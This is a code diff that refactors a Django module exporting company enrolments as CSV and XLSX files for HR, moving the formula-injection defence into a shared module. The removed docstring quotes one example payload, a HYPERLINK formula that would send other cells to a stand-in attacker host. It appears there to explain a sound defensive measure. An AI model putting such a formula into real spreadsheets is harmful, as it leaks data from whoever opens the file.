@@ -1,12 +1,10 @@
 """The company's enrolments as a spreadsheet for HR: CSV and XLSX.
 
-Both formats come from the same rows (:func:`export_rows`), read with one query. Every text
-cell passes through :func:`neutralise` first, because names and course titles are typed in by
-people outside HR's control and the file is opened in a spreadsheet program.
+Both formats come from the same rows (:func:`export_rows`), read with one query. Writing them,
+and neutralising every text cell against formula injection on the way, is
+``technohub.spreadsheets``' job, shared with the programme manager's participant lists.
 """
 
-import csv
-import io
 from collections.abc import Iterable
 from datetime import date, datetime
 from decimal import ROUND_HALF_UP, Decimal
@@ -14,54 +12,35 @@ from decimal import ROUND_HALF_UP, Decimal
 from django.utils import timezone
 from django.utils.translation import gettext as _
 from django.utils.translation import gettext_lazy
-from openpyxl import Workbook
-from openpyxl.styles import Font
-from openpyxl.utils import get_column_letter
+
+from technohub import spreadsheets
+from technohub.spreadsheets import Cell, Column, neutralise
 
 from . import selectors
 from .models import Company
 
-Cell = str | int | Decimal | date | None
+__all__ = ["COLUMNS", "export_rows", "filename", "headers", "neutralise", "to_csv", "to_xlsx"]
 
 # Column headers and, for the XLSX, each column's width (in characters) and number format.
 COLUMNS = [
-    (gettext_lazy("Achternaam"), 22, None),
-    (gettext_lazy("Voornaam"), 16, None),
-    (gettext_lazy("E-mailadres"), 30, None),
-    (gettext_lazy("Cursus"), 36, None),
-    (gettext_lazy("Locatie"), 24, None),
-    (gettext_lazy("Startdatum"), 12, "yyyy-mm-dd"),
-    (gettext_lazy("Einddatum"), 12, "yyyy-mm-dd"),
-    (gettext_lazy("Status"), 16, None),
-    (gettext_lazy("Plaats op wachtlijst"), 10, "0"),
-    (gettext_lazy("Prijs excl. btw"), 14, "#,##0.00"),
-    (gettext_lazy("Btw-tarief"), 10, "0.00"),
-    (gettext_lazy("Btw"), 12, "#,##0.00"),
-    (gettext_lazy("Prijs incl. btw"), 14, "#,##0.00"),
-    (gettext_lazy("Studie-uren"), 10, "0.0"),
-    (gettext_lazy("Subsidiabel"), 11, None),
+    Column(gettext_lazy("Achternaam"), 22),
+    Column(gettext_lazy("Voornaam"), 16),
+    Column(gettext_lazy("E-mailadres"), 30),
+    Column(gettext_lazy("Cursus"), 36),
+    Column(gettext_lazy("Locatie"), 24),
+    Column(gettext_lazy("Startdatum"), 12, "yyyy-mm-dd"),
+    Column(gettext_lazy("Einddatum"), 12, "yyyy-mm-dd"),
+    Column(gettext_lazy("Status"), 16),
+    Column(gettext_lazy("Plaats op wachtlijst"), 10, "0"),
+    Column(gettext_lazy("Prijs excl. btw"), 14, "#,##0.00"),
+    Column(gettext_lazy("Btw-tarief"), 10, "0.00"),
+    Column(gettext_lazy("Btw"), 12, "#,##0.00"),
+    Column(gettext_lazy("Prijs incl. btw"), 14, "#,##0.00"),
+    Column(gettext_lazy("Studie-uren"), 10, "0.0"),
+    Column(gettext_lazy("Subsidiabel"), 11),
 ]
 
-# Spreadsheet programs read a cell that starts with one of these as a formula (tab and carriage
-# return too: some programs strip them and then see the formula behind them).
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-
 CENT = Decimal("0.01")
-
-
-def neutralise(value: Cell) -> Cell:
-    """Make a text cell inert against formula injection (CSV/XLSX injection, OWASP).
-
-    A learner may call themself ``=HYPERLINK("https://evil.example?"&A1, "Klik")``; if HR opens
-    the export in Excel or LibreOffice, that cell would run as a formula and could leak other
-    cells or start programs. A leading apostrophe makes the program treat the cell as text (it
-    is the escape Excel itself uses), so text starting with ``=``, ``+``, ``-``, ``@``, a tab or
-    a carriage return gets one. Everything else, including numbers and dates, passes unchanged:
-    a phone number like ``+31...`` keeps its digits and merely shows the apostrophe.
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
-        return f"'{value}"
-    return value
 
 
 def _local_date(moment: datetime | None) -> date | None:
@@ -105,56 +84,17 @@ def export_rows(*, company: Company) -> list[list[Cell]]:
 
 def headers() -> list[str]:
     """The column headers in the active language."""
-    return [str(title) for title, _width, _format in COLUMNS]
-
-
-def _csv_value(value: Cell) -> str:
-    if value is None:
-        return ""
-    if isinstance(value, date):
-        return value.isoformat()
-    if isinstance(value, Decimal):
-        # A decimal point, never a comma: the CSV is for other programs too, and a point is
-        # what every parser accepts. HR who want Excel to see numbers take the XLSX.
-        return str(value)
-    return str(neutralise(value))
+    return spreadsheets.headers(COLUMNS)
 
 
 def to_csv(rows: Iterable[list[Cell]]) -> bytes:
-    """The rows as CSV for Dutch Excel: UTF-8 with a byte-order mark, semicolon-separated.
-
-    The BOM makes Excel read UTF-8 (else names like "Hüseyin" break); Dutch Excel splits
-    columns on semicolons, because its decimal separator is the comma. Dates are ISO.
-    """
-    buffer = io.StringIO()
-    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
-    writer.writerow([neutralise(header) for header in headers()])
-    for row in rows:
-        writer.writerow([_csv_value(value) for value in row])
-    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+    """The rows as CSV for Dutch Excel (see ``technohub.spreadsheets.to_csv``)."""
+    return spreadsheets.to_csv(COLUMNS, rows)
 
 
 def to_xlsx(rows: Iterable[list[Cell]]) -> bytes:
     """The rows as an Excel workbook: real numbers and dates, bold frozen header row."""
-    workbook = Workbook()
-    sheet = workbook.active
-    sheet.title = str(_("Inschrijvingen"))[:31]
-    sheet.append([neutralise(header) for header in headers()])
-    for cell in sheet[1]:
-        cell.font = Font(bold=True)
-    for row in rows:
-        sheet.append([neutralise(value) for value in row])
-    for index, (_title, width, number_format) in enumerate(COLUMNS, start=1):
-        letter = get_column_letter(index)
-        sheet.column_dimensions[letter].width = width
-        if number_format:
-            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
-                cell.number_format = number_format
-    sheet.freeze_panes = "A2"
-    sheet.auto_filter.ref = sheet.dimensions
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
+    return spreadsheets.to_xlsx(COLUMNS, rows, sheet_title=_("Inschrijvingen"))
 
 
 def filename(*, company: Company, extension: str, today: date | None = None) -> str:
